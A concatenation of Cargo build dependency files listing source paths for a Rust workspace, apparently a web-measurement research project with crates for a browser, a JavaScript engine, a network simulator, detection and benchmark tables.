crates/openwpm/src/instrument/stealth.rs:
crates/openwpm/src/instrument/vanilla.rs:
crates/openwpm/src/instrument/watch.rs:
crates/openwpm/src/manager.rs:
crates/openwpm/src/records.rs:
crates/openwpm/src/supervisor.rs:
crates/openwpm/src/wpm_browser.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
