/root/repo/target/debug/deps/webgen-c640739b61c59c89.d: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

/root/repo/target/debug/deps/webgen-c640739b61c59c89: crates/webgen/src/lib.rs crates/webgen/src/behaviour.rs crates/webgen/src/blocklists.rs crates/webgen/src/categories.rs crates/webgen/src/materialise.rs crates/webgen/src/providers.rs crates/webgen/src/site.rs

crates/webgen/src/lib.rs:
crates/webgen/src/behaviour.rs:
crates/webgen/src/blocklists.rs:
crates/webgen/src/categories.rs:
crates/webgen/src/materialise.rs:
crates/webgen/src/providers.rs:
crates/webgen/src/site.rs:
