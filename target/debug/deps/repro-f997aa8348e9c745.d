/root/repo/target/debug/deps/repro-f997aa8348e9c745.d: crates/bench/src/bin/repro.rs Cargo.toml

/root/repo/target/debug/deps/librepro-f997aa8348e9c745.rmeta: crates/bench/src/bin/repro.rs Cargo.toml

crates/bench/src/bin/repro.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
