/root/repo/target/debug/deps/properties-7e514f66f326e4d6.d: crates/webgen/tests/properties.rs

/root/repo/target/debug/deps/properties-7e514f66f326e4d6: crates/webgen/tests/properties.rs

crates/webgen/tests/properties.rs:
