/root/repo/target/debug/deps/figure06-8e9578731ef817b5.d: crates/bench/src/bin/figure06.rs

/root/repo/target/debug/deps/figure06-8e9578731ef817b5: crates/bench/src/bin/figure06.rs

crates/bench/src/bin/figure06.rs:
