/root/repo/target/debug/deps/figure02-be65167ecc18d82f.d: crates/bench/src/bin/figure02.rs

/root/repo/target/debug/deps/figure02-be65167ecc18d82f: crates/bench/src/bin/figure02.rs

crates/bench/src/bin/figure02.rs:
