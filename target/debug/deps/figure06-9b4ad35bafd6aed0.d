/root/repo/target/debug/deps/figure06-9b4ad35bafd6aed0.d: crates/bench/src/bin/figure06.rs Cargo.toml

/root/repo/target/debug/deps/libfigure06-9b4ad35bafd6aed0.rmeta: crates/bench/src/bin/figure06.rs Cargo.toml

crates/bench/src/bin/figure06.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
