/root/repo/target/debug/deps/end_to_end-def0b56e63cc9d3e.d: crates/core/../../tests/end_to_end.rs Cargo.toml

/root/repo/target/debug/deps/libend_to_end-def0b56e63cc9d3e.rmeta: crates/core/../../tests/end_to_end.rs Cargo.toml

crates/core/../../tests/end_to_end.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
