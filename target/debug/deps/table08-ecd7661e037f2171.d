/root/repo/target/debug/deps/table08-ecd7661e037f2171.d: crates/bench/src/bin/table08.rs Cargo.toml

/root/repo/target/debug/deps/libtable08-ecd7661e037f2171.rmeta: crates/bench/src/bin/table08.rs Cargo.toml

crates/bench/src/bin/table08.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
