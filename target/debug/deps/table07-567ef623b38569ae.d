/root/repo/target/debug/deps/table07-567ef623b38569ae.d: crates/bench/src/bin/table07.rs

/root/repo/target/debug/deps/table07-567ef623b38569ae: crates/bench/src/bin/table07.rs

crates/bench/src/bin/table07.rs:
