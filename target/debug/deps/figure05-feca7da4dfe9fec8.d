/root/repo/target/debug/deps/figure05-feca7da4dfe9fec8.d: crates/bench/src/bin/figure05.rs

/root/repo/target/debug/deps/figure05-feca7da4dfe9fec8: crates/bench/src/bin/figure05.rs

crates/bench/src/bin/figure05.rs:
