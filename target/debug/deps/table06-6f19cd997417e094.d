/root/repo/target/debug/deps/table06-6f19cd997417e094.d: crates/bench/src/bin/table06.rs

/root/repo/target/debug/deps/table06-6f19cd997417e094: crates/bench/src/bin/table06.rs

crates/bench/src/bin/table06.rs:
