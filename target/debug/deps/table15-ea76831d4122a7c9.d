/root/repo/target/debug/deps/table15-ea76831d4122a7c9.d: crates/bench/src/bin/table15.rs

/root/repo/target/debug/deps/table15-ea76831d4122a7c9: crates/bench/src/bin/table15.rs

crates/bench/src/bin/table15.rs:
