/root/repo/target/debug/deps/engine-6f9147e2c7bcf51c.d: crates/bench/benches/engine.rs Cargo.toml

/root/repo/target/debug/deps/libengine-6f9147e2c7bcf51c.rmeta: crates/bench/benches/engine.rs Cargo.toml

crates/bench/benches/engine.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
