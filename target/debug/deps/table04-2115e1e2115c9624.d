/root/repo/target/debug/deps/table04-2115e1e2115c9624.d: crates/bench/src/bin/table04.rs Cargo.toml

/root/repo/target/debug/deps/libtable04-2115e1e2115c9624.rmeta: crates/bench/src/bin/table04.rs Cargo.toml

crates/bench/src/bin/table04.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
