/root/repo/target/debug/deps/table09-e732eb549db2ace0.d: crates/bench/src/bin/table09.rs Cargo.toml

/root/repo/target/debug/deps/libtable09-e732eb549db2ace0.rmeta: crates/bench/src/bin/table09.rs Cargo.toml

crates/bench/src/bin/table09.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
