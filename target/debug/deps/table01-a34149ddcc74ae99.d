/root/repo/target/debug/deps/table01-a34149ddcc74ae99.d: crates/bench/src/bin/table01.rs

/root/repo/target/debug/deps/table01-a34149ddcc74ae99: crates/bench/src/bin/table01.rs

crates/bench/src/bin/table01.rs:
