/root/repo/target/debug/deps/table08-12e9c840ab9cfa4a.d: crates/bench/src/bin/table08.rs

/root/repo/target/debug/deps/table08-12e9c840ab9cfa4a: crates/bench/src/bin/table08.rs

crates/bench/src/bin/table08.rs:
