/root/repo/target/debug/deps/properties-0307e503ef767d80.d: crates/stats/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-0307e503ef767d80.rmeta: crates/stats/tests/properties.rs Cargo.toml

crates/stats/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
