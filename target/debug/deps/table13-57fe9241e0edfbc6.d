/root/repo/target/debug/deps/table13-57fe9241e0edfbc6.d: crates/bench/src/bin/table13.rs

/root/repo/target/debug/deps/table13-57fe9241e0edfbc6: crates/bench/src/bin/table13.rs

crates/bench/src/bin/table13.rs:
