/root/repo/target/debug/deps/determinism-462bd405f649ec6e.d: crates/core/../../tests/determinism.rs

/root/repo/target/debug/deps/determinism-462bd405f649ec6e: crates/core/../../tests/determinism.rs

crates/core/../../tests/determinism.rs:
