/root/repo/target/debug/deps/ablation-95e823f5d2919a70.d: crates/bench/benches/ablation.rs Cargo.toml

/root/repo/target/debug/deps/libablation-95e823f5d2919a70.rmeta: crates/bench/benches/ablation.rs Cargo.toml

crates/bench/benches/ablation.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
