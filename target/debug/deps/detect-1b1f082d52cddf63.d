/root/repo/target/debug/deps/detect-1b1f082d52cddf63.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/debug/deps/libdetect-1b1f082d52cddf63.rlib: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/debug/deps/libdetect-1b1f082d52cddf63.rmeta: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
