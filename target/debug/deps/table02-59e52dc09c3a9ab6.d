/root/repo/target/debug/deps/table02-59e52dc09c3a9ab6.d: crates/bench/src/bin/table02.rs Cargo.toml

/root/repo/target/debug/deps/libtable02-59e52dc09c3a9ab6.rmeta: crates/bench/src/bin/table02.rs Cargo.toml

crates/bench/src/bin/table02.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
