/root/repo/target/debug/deps/table11-d2e01aa872583d0e.d: crates/bench/src/bin/table11.rs Cargo.toml

/root/repo/target/debug/deps/libtable11-d2e01aa872583d0e.rmeta: crates/bench/src/bin/table11.rs Cargo.toml

crates/bench/src/bin/table11.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
