/root/repo/target/debug/deps/browser-561db02be558b6a2.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/debug/deps/libbrowser-561db02be558b6a2.rlib: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/debug/deps/libbrowser-561db02be558b6a2.rmeta: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
