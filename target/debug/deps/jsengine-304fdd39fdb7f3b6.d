/root/repo/target/debug/deps/jsengine-304fdd39fdb7f3b6.d: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs Cargo.toml

/root/repo/target/debug/deps/libjsengine-304fdd39fdb7f3b6.rmeta: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs Cargo.toml

crates/jsengine/src/lib.rs:
crates/jsengine/src/ast.rs:
crates/jsengine/src/error.rs:
crates/jsengine/src/interp.rs:
crates/jsengine/src/lexer.rs:
crates/jsengine/src/object.rs:
crates/jsengine/src/parser.rs:
crates/jsengine/src/value.rs:
crates/jsengine/src/builtins.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
