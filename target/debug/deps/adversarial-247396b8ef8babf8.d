/root/repo/target/debug/deps/adversarial-247396b8ef8babf8.d: crates/jsengine/tests/adversarial.rs Cargo.toml

/root/repo/target/debug/deps/libadversarial-247396b8ef8babf8.rmeta: crates/jsengine/tests/adversarial.rs Cargo.toml

crates/jsengine/tests/adversarial.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
