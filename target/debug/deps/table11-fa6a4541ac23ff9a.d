/root/repo/target/debug/deps/table11-fa6a4541ac23ff9a.d: crates/bench/src/bin/table11.rs

/root/repo/target/debug/deps/table11-fa6a4541ac23ff9a: crates/bench/src/bin/table11.rs

crates/bench/src/bin/table11.rs:
