/root/repo/target/debug/deps/browser-816b1110effefe00.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs Cargo.toml

/root/repo/target/debug/deps/libbrowser-816b1110effefe00.rmeta: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs Cargo.toml

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
