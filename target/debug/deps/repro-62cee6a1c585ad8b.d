/root/repo/target/debug/deps/repro-62cee6a1c585ad8b.d: crates/bench/src/bin/repro.rs

/root/repo/target/debug/deps/repro-62cee6a1c585ad8b: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
