/root/repo/target/debug/deps/jsengine-e48fbebe1086fe65.d: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs Cargo.toml

/root/repo/target/debug/deps/libjsengine-e48fbebe1086fe65.rmeta: crates/jsengine/src/lib.rs crates/jsengine/src/ast.rs crates/jsengine/src/error.rs crates/jsengine/src/interp.rs crates/jsengine/src/lexer.rs crates/jsengine/src/object.rs crates/jsengine/src/parser.rs crates/jsengine/src/value.rs crates/jsengine/src/builtins.rs Cargo.toml

crates/jsengine/src/lib.rs:
crates/jsengine/src/ast.rs:
crates/jsengine/src/error.rs:
crates/jsengine/src/interp.rs:
crates/jsengine/src/lexer.rs:
crates/jsengine/src/object.rs:
crates/jsengine/src/parser.rs:
crates/jsengine/src/value.rs:
crates/jsengine/src/builtins.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
