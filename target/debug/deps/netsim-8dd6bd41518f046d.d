/root/repo/target/debug/deps/netsim-8dd6bd41518f046d.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/debug/deps/libnetsim-8dd6bd41518f046d.rlib: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/debug/deps/libnetsim-8dd6bd41518f046d.rmeta: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
