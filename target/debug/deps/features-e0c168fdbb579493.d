/root/repo/target/debug/deps/features-e0c168fdbb579493.d: crates/openwpm/tests/features.rs

/root/repo/target/debug/deps/features-e0c168fdbb579493: crates/openwpm/tests/features.rs

crates/openwpm/tests/features.rs:
