/root/repo/target/debug/deps/language-3715787ed0e92add.d: crates/jsengine/tests/language.rs

/root/repo/target/debug/deps/language-3715787ed0e92add: crates/jsengine/tests/language.rs

crates/jsengine/tests/language.rs:
