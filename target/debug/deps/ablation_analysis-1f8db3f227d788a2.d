/root/repo/target/debug/deps/ablation_analysis-1f8db3f227d788a2.d: crates/bench/src/bin/ablation_analysis.rs

/root/repo/target/debug/deps/ablation_analysis-1f8db3f227d788a2: crates/bench/src/bin/ablation_analysis.rs

crates/bench/src/bin/ablation_analysis.rs:
