/root/repo/target/debug/deps/figure04-40afe7cca3ae5fb4.d: crates/bench/src/bin/figure04.rs

/root/repo/target/debug/deps/figure04-40afe7cca3ae5fb4: crates/bench/src/bin/figure04.rs

crates/bench/src/bin/figure04.rs:
