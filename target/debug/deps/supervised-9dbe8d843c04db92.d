/root/repo/target/debug/deps/supervised-9dbe8d843c04db92.d: crates/core/../../tests/supervised.rs Cargo.toml

/root/repo/target/debug/deps/libsupervised-9dbe8d843c04db92.rmeta: crates/core/../../tests/supervised.rs Cargo.toml

crates/core/../../tests/supervised.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
