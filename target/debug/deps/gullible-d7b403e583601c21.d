/root/repo/target/debug/deps/gullible-d7b403e583601c21.d: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

/root/repo/target/debug/deps/gullible-d7b403e583601c21: crates/core/src/lib.rs crates/core/src/attacks.rs crates/core/src/compare.rs crates/core/src/literature.rs crates/core/src/report.rs crates/core/src/scan.rs crates/core/src/surface.rs

crates/core/src/lib.rs:
crates/core/src/attacks.rs:
crates/core/src/compare.rs:
crates/core/src/literature.rs:
crates/core/src/report.rs:
crates/core/src/scan.rs:
crates/core/src/surface.rs:
