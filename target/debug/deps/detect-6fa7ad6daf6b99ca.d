/root/repo/target/debug/deps/detect-6fa7ad6daf6b99ca.d: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

/root/repo/target/debug/deps/detect-6fa7ad6daf6b99ca: crates/detect/src/lib.rs crates/detect/src/corpus.rs crates/detect/src/dynamic_analysis.rs crates/detect/src/static_analysis.rs

crates/detect/src/lib.rs:
crates/detect/src/corpus.rs:
crates/detect/src/dynamic_analysis.rs:
crates/detect/src/static_analysis.rs:
