/root/repo/target/debug/deps/table11-087cb783e761e15a.d: crates/bench/src/bin/table11.rs Cargo.toml

/root/repo/target/debug/deps/libtable11-087cb783e761e15a.rmeta: crates/bench/src/bin/table11.rs Cargo.toml

crates/bench/src/bin/table11.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
