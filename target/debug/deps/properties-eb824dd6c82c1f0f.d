/root/repo/target/debug/deps/properties-eb824dd6c82c1f0f.d: crates/webgen/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-eb824dd6c82c1f0f.rmeta: crates/webgen/tests/properties.rs Cargo.toml

crates/webgen/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
