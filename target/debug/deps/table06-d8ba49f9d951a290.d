/root/repo/target/debug/deps/table06-d8ba49f9d951a290.d: crates/bench/src/bin/table06.rs Cargo.toml

/root/repo/target/debug/deps/libtable06-d8ba49f9d951a290.rmeta: crates/bench/src/bin/table06.rs Cargo.toml

crates/bench/src/bin/table06.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
