/root/repo/target/debug/deps/repro-f2cf17fcd2707067.d: crates/bench/src/bin/repro.rs

/root/repo/target/debug/deps/repro-f2cf17fcd2707067: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
