/root/repo/target/debug/deps/table12-ef6f686504a97d9e.d: crates/bench/src/bin/table12.rs Cargo.toml

/root/repo/target/debug/deps/libtable12-ef6f686504a97d9e.rmeta: crates/bench/src/bin/table12.rs Cargo.toml

crates/bench/src/bin/table12.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
