/root/repo/target/debug/deps/figure06-e56b9928509e7de1.d: crates/bench/src/bin/figure06.rs Cargo.toml

/root/repo/target/debug/deps/libfigure06-e56b9928509e7de1.rmeta: crates/bench/src/bin/figure06.rs Cargo.toml

crates/bench/src/bin/figure06.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
