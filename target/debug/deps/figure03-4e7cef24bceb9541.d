/root/repo/target/debug/deps/figure03-4e7cef24bceb9541.d: crates/bench/src/bin/figure03.rs

/root/repo/target/debug/deps/figure03-4e7cef24bceb9541: crates/bench/src/bin/figure03.rs

crates/bench/src/bin/figure03.rs:
