/root/repo/target/debug/deps/stats-d002e7d9268f8f9a.d: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs Cargo.toml

/root/repo/target/debug/deps/libstats-d002e7d9268f8f9a.rmeta: crates/stats/src/lib.rs crates/stats/src/descriptive.rs crates/stats/src/ratcliff.rs crates/stats/src/wilcoxon.rs Cargo.toml

crates/stats/src/lib.rs:
crates/stats/src/descriptive.rs:
crates/stats/src/ratcliff.rs:
crates/stats/src/wilcoxon.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
