/root/repo/target/debug/deps/table07-1853fa737dc696d7.d: crates/bench/src/bin/table07.rs Cargo.toml

/root/repo/target/debug/deps/libtable07-1853fa737dc696d7.rmeta: crates/bench/src/bin/table07.rs Cargo.toml

crates/bench/src/bin/table07.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
