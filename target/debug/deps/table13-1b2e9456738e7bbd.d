/root/repo/target/debug/deps/table13-1b2e9456738e7bbd.d: crates/bench/src/bin/table13.rs Cargo.toml

/root/repo/target/debug/deps/libtable13-1b2e9456738e7bbd.rmeta: crates/bench/src/bin/table13.rs Cargo.toml

crates/bench/src/bin/table13.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
