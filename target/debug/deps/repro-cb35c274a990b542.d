/root/repo/target/debug/deps/repro-cb35c274a990b542.d: crates/bench/src/bin/repro.rs Cargo.toml

/root/repo/target/debug/deps/librepro-cb35c274a990b542.rmeta: crates/bench/src/bin/repro.rs Cargo.toml

crates/bench/src/bin/repro.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
