/root/repo/target/debug/deps/table10-b74cca704478b315.d: crates/bench/src/bin/table10.rs

/root/repo/target/debug/deps/table10-b74cca704478b315: crates/bench/src/bin/table10.rs

crates/bench/src/bin/table10.rs:
