/root/repo/target/debug/deps/table15-e2b9787687ebe3d7.d: crates/bench/src/bin/table15.rs

/root/repo/target/debug/deps/table15-e2b9787687ebe3d7: crates/bench/src/bin/table15.rs

crates/bench/src/bin/table15.rs:
