/root/repo/target/debug/deps/netsim-78631861de945bea.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs Cargo.toml

/root/repo/target/debug/deps/libnetsim-78631861de945bea.rmeta: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs Cargo.toml

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
