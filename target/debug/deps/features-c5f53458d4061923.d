/root/repo/target/debug/deps/features-c5f53458d4061923.d: crates/openwpm/tests/features.rs Cargo.toml

/root/repo/target/debug/deps/libfeatures-c5f53458d4061923.rmeta: crates/openwpm/tests/features.rs Cargo.toml

crates/openwpm/tests/features.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
