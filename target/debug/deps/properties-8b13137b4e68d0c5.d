/root/repo/target/debug/deps/properties-8b13137b4e68d0c5.d: crates/detect/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-8b13137b4e68d0c5.rmeta: crates/detect/tests/properties.rs Cargo.toml

crates/detect/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
