/root/repo/target/debug/deps/properties-ae9ab07da7effaf1.d: crates/netsim/tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-ae9ab07da7effaf1.rmeta: crates/netsim/tests/properties.rs Cargo.toml

crates/netsim/tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
