/root/repo/target/debug/deps/figure05-6999e823bb128905.d: crates/bench/src/bin/figure05.rs Cargo.toml

/root/repo/target/debug/deps/libfigure05-6999e823bb128905.rmeta: crates/bench/src/bin/figure05.rs Cargo.toml

crates/bench/src/bin/figure05.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
