/root/repo/target/debug/deps/figure03-0fe2e38710b514d9.d: crates/bench/src/bin/figure03.rs Cargo.toml

/root/repo/target/debug/deps/libfigure03-0fe2e38710b514d9.rmeta: crates/bench/src/bin/figure03.rs Cargo.toml

crates/bench/src/bin/figure03.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
