/root/repo/target/debug/deps/figure02-0976598e6492a20a.d: crates/bench/src/bin/figure02.rs

/root/repo/target/debug/deps/figure02-0976598e6492a20a: crates/bench/src/bin/figure02.rs

crates/bench/src/bin/figure02.rs:
