/root/repo/target/debug/deps/table04-f8fe9d8932689919.d: crates/bench/src/bin/table04.rs

/root/repo/target/debug/deps/table04-f8fe9d8932689919: crates/bench/src/bin/table04.rs

crates/bench/src/bin/table04.rs:
