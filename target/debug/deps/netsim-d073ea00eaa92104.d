/root/repo/target/debug/deps/netsim-d073ea00eaa92104.d: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

/root/repo/target/debug/deps/netsim-d073ea00eaa92104: crates/netsim/src/lib.rs crates/netsim/src/blocklist.rs crates/netsim/src/cookies.rs crates/netsim/src/http.rs crates/netsim/src/url.rs

crates/netsim/src/lib.rs:
crates/netsim/src/blocklist.rs:
crates/netsim/src/cookies.rs:
crates/netsim/src/http.rs:
crates/netsim/src/url.rs:
