/root/repo/target/debug/deps/proplite-d6b14f5c764baa7f.d: crates/proplite/src/lib.rs

/root/repo/target/debug/deps/proplite-d6b14f5c764baa7f: crates/proplite/src/lib.rs

crates/proplite/src/lib.rs:
