/root/repo/target/debug/deps/table04-d724c63eeb655572.d: crates/bench/src/bin/table04.rs Cargo.toml

/root/repo/target/debug/deps/libtable04-d724c63eeb655572.rmeta: crates/bench/src/bin/table04.rs Cargo.toml

crates/bench/src/bin/table04.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
