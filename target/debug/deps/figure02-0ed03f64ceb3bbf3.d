/root/repo/target/debug/deps/figure02-0ed03f64ceb3bbf3.d: crates/bench/src/bin/figure02.rs Cargo.toml

/root/repo/target/debug/deps/libfigure02-0ed03f64ceb3bbf3.rmeta: crates/bench/src/bin/figure02.rs Cargo.toml

crates/bench/src/bin/figure02.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
