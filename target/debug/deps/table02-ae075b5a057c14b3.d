/root/repo/target/debug/deps/table02-ae075b5a057c14b3.d: crates/bench/src/bin/table02.rs

/root/repo/target/debug/deps/table02-ae075b5a057c14b3: crates/bench/src/bin/table02.rs

crates/bench/src/bin/table02.rs:
