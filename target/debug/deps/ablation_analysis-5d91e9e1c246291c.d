/root/repo/target/debug/deps/ablation_analysis-5d91e9e1c246291c.d: crates/bench/src/bin/ablation_analysis.rs

/root/repo/target/debug/deps/ablation_analysis-5d91e9e1c246291c: crates/bench/src/bin/ablation_analysis.rs

crates/bench/src/bin/ablation_analysis.rs:
