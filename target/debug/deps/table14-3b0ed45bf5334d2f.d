/root/repo/target/debug/deps/table14-3b0ed45bf5334d2f.d: crates/bench/src/bin/table14.rs

/root/repo/target/debug/deps/table14-3b0ed45bf5334d2f: crates/bench/src/bin/table14.rs

crates/bench/src/bin/table14.rs:
