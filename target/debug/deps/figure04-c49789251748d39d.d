/root/repo/target/debug/deps/figure04-c49789251748d39d.d: crates/bench/src/bin/figure04.rs

/root/repo/target/debug/deps/figure04-c49789251748d39d: crates/bench/src/bin/figure04.rs

crates/bench/src/bin/figure04.rs:
