/root/repo/target/debug/deps/proplite-6a3a7b30f620d57c.d: crates/proplite/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libproplite-6a3a7b30f620d57c.rmeta: crates/proplite/src/lib.rs Cargo.toml

crates/proplite/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
