/root/repo/target/debug/deps/table15-437220c0c06ec3cd.d: crates/bench/src/bin/table15.rs Cargo.toml

/root/repo/target/debug/deps/libtable15-437220c0c06ec3cd.rmeta: crates/bench/src/bin/table15.rs Cargo.toml

crates/bench/src/bin/table15.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
