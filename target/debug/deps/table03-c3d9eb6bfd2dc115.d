/root/repo/target/debug/deps/table03-c3d9eb6bfd2dc115.d: crates/bench/src/bin/table03.rs Cargo.toml

/root/repo/target/debug/deps/libtable03-c3d9eb6bfd2dc115.rmeta: crates/bench/src/bin/table03.rs Cargo.toml

crates/bench/src/bin/table03.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
