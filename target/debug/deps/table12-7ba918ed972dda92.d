/root/repo/target/debug/deps/table12-7ba918ed972dda92.d: crates/bench/src/bin/table12.rs

/root/repo/target/debug/deps/table12-7ba918ed972dda92: crates/bench/src/bin/table12.rs

crates/bench/src/bin/table12.rs:
